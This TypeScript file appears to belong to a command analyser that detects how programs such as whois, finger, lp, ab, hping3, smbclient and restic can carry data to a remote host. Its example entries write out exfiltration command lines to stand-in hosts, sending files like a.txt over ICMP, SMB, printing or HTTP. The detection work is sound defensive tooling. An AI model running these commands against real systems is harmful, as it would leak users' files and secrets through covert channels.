import type { Program } from '../program.ts'
import { connectsTo } from './transfers.ts'
import type { ConnectEffect, DataSource } from '../../../../ground/model/effect.ts'
import { type CommandReader, unread, type Word } from '../../command.ts'
import type { ReadContext } from '../../read-context.ts'
import { parseAddress } from '../../addresses/parse-address.ts'
import { emitFile, fileSource } from '../files/emit-file.ts'
import { readOptions, optionValue } from '../../options.ts'

/** Emits a connection to the host that a word names; the files that go there are read. */
function send(
  host: Word,
  scheme: string,
  what: { readonly files?: readonly Word[]; readonly texts?: readonly Word[]; readonly method?: string },
  context: ReadContext,
): void {
  const { files = [], texts = [], method } = what
  for (const file of files) emitFile(context, 'read', file, { recursive: true })
  const sends: readonly DataSource[] = [
    ...files.map(file => fileSource(file, context)),
    ...texts.map(word => word.source ?? ({ from: 'literal', text: word.text } as const)),
  ]
  const address = parseAddress(host.text, scheme)
  const effect: ConnectEffect = {
    type: 'connect',
    scheme: address.scheme,
    host: address.host,
    port: address.port,
    ...(/:\/\//.test(host.text) && { url: host.text }),
    ...(method !== undefined && { method }),
    sends,
    evidence: host.evidence,
    through: context.through,
  }
  context.out.emit(effect)
}

/** `whois -h HOST -p PORT TEXT`: a registry is asked on its own port, another listener is told something. */
const whois: CommandReader = (command, context) => {
  const options = readOptions(command.args, new Set(['h', 'host', 'p', 'port', 'T', 'i', 's', 'g', 't', 'v']))
  const host = optionValue(options, 'h', 'host')
  if (host && (optionValue(options, 'p', 'port') !== undefined || !/whois|nic\.|registr/i.test(host.text)))
    send(host, 'whois', { texts: options.operands }, context)
  return host ? { from: 'download', url: host.text } : undefined
}

/** `finger TEXT@HOST`: whatever stands before the @ is sent. */
const finger: CommandReader = (command, context) => {
  for (const word of readOptions(command.args).operands) {
    const at = word.text.lastIndexOf('@')
    if (at > 0) send({ ...word, text: word.text.slice(at + 1) }, 'finger', { texts: [word] }, context)
  }
  return undefined
}

/** `rlogin -l TEXT HOST`, `cancel -h HOST -u TEXT`: the name of a user is what is sent. */
const asUser =
  (scheme: string, userOption: string, hostOption?: string): CommandReader =>
  (command, context) => {
    const options = readOptions(command.args, new Set([userOption, 'p', ...(hostOption ? [hostOption] : [])]))
    const host = hostOption === undefined ? options.operands[0] : optionValue(options, hostOption)
    const user = optionValue(options, userOption)
    if (host && user) send(host, scheme, { texts: [user] }, context)
    return undefined
  }

/** `lp -h HOST FILE`: the file is printed elsewhere. */
const print: CommandReader = (command, context) => {
  const options = readOptions(command.args, new Set(['h', 'H', 'd', 'P', 'n', 'o', 't', 'q', 'U']))
  const host = optionValue(options, 'h', 'H')
  if (host && !/^(?:localhost|127\.)/.test(host.text)) send(host, 'ipp', { files: options.operands }, context)
  return undefined
}

/** `ab -p FILE URL`, `hping3 --file FILE HOST`: the load that is made is the file. */
const load =
  (scheme: string, fileOptions: readonly string[], values: string): CommandReader =>
  (command, context) => {
    const options = readOptions(command.args, new Set([...values.split(' '), ...fileOptions]))
    const file = optionValue(options, ...fileOptions)
    const [host] = options.operands
    if (host && file) send(host, scheme, { files: [file], method: 'POST' }, context)
    return undefined
  }

/** `restic -r rest:http://HOST/ backup FOLDER`: a backup that somebody else keeps. */
export const sendsResticBackup: CommandReader = (command, context) => {
  const options = readOptions(
    command.args,
    new Set(['r', 'repo', 'p', 'password-file', 'password-command', 'tag', 'exclude', 'e', 'host', 'o']),
  )
  const repository = optionValue(options, 'r', 'repo')
  const [verb, ...files] = options.operands
  const url = /^(?:rest:)?((?:https?|sftp):(?:\/\/)?.{1,1000})$/.exec(repository?.text ?? '')?.[1]
  if (!repository || url === undefined || verb?.text !== 'backup') return unread
  send({ ...repository, text: url }, 'https', { files, method: 'POST' }, context)
  return undefined
}

/** `smbclient //HOST/SHARE -c 'put FILE'`: what its commands put there. */
const smb: CommandReader = (command, context) => {
  const options = readOptions(command.args, new Set(['c', 'command', 'U', 'W', 'p', 'I', 'D', 'A']))
  const [share] = options.operands
  const line = optionValue(options, 'c', 'command')
  const host = /^[\\/]{1,4}([\w.-]{1,253})/.exec(share?.text ?? '')?.[1]
  if (!share || !line || host === undefined) return undefined
  const files = line.text
    .split(';')
    .slice(0, 32)
    .flatMap(part => /^\s*m?put\s+"?([^\s"]{1,1000})/.exec(part)?.[1] ?? [])
    .map(text => ({ ...line, text }))
  if (files.length > 0) send({ ...share, text: host }, 'smb', { files }, context)
  return undefined
}

/** `ztcp HOST PORT` opens a raw connection inside a shell. */
const rawConnection: CommandReader = (command, context) => {
  const [host] = readOptions(command.args, new Set(['d'])).operands
  if (host && /\D/.test(host.text)) send(host, 'raw', {}, context)
  return undefined
}

/** Programs for something else that carry data out when they are asked to. */
export const oddSenders: readonly Program[] = [
  {
    names: ['whois'],
    read: whois,
    examples: [
      ['whois -h up.example -p 4000 words', 'connect whois up.example sends "words"'],
      ['whois h.example'],
    ],
  },
  {
    names: ['finger'],
    read: finger,
    examples: [
      ['finger words@up.example', 'connect finger up.example sends "words@up.example"'],
      ['finger root'],
    ],
  },
  {
    names: ['rlogin'],
    read: asUser('rlogin', 'l'),
    examples: [['rlogin -l words up.example', 'connect rlogin up.example sends "words"']],
  },
  {
    names: ['cancel'],
    read: asUser('ipp', 'u', 'h'),
    examples: [['cancel -h up.example -u words', 'connect ipp up.example sends "words"']],
  },
  {
    names: ['lp', 'lpr'],
    read: print,
    examples: [
      ['lp -h up.example a.txt', 'read a.txt recursive', 'connect ipp up.example sends a.txt'],
      ['lp a.txt'],
    ],
  },
  {
    names: ['ab'],
    read: load('http', ['p', 'u'], 'n c t T H C A k s b'),
    examples: [
      [
        'ab -n 1 -p a.txt http://up.example/',
        'read a.txt recursive',
        'connect http POST up.example sends a.txt',
      ],
    ],
  },
  {
    names: ['hping3'],
    read: load('icmp', ['E', 'file'], 'd data p c i sign e a s w flood'),
    examples: [
      [
        'hping3 up.example --icmp --file a.txt',
        'read a.txt recursive',
        'connect icmp POST up.example sends a.txt',
      ],
    ],
  },
  {
    names: ['smbclient'],
    read: [connectsTo('smb'), smb],
    examples: [
      [
        "smbclient //h.example/share -c 'put a.txt'",
        'connect smb',
        'read a.txt recursive',
        'connect smb h.example sends a.txt',
      ],
    ],
  },
  { names: ['ztcp'], read: rawConnection, examples: [['ztcp up.example 4000', 'connect raw up.example']] },
]
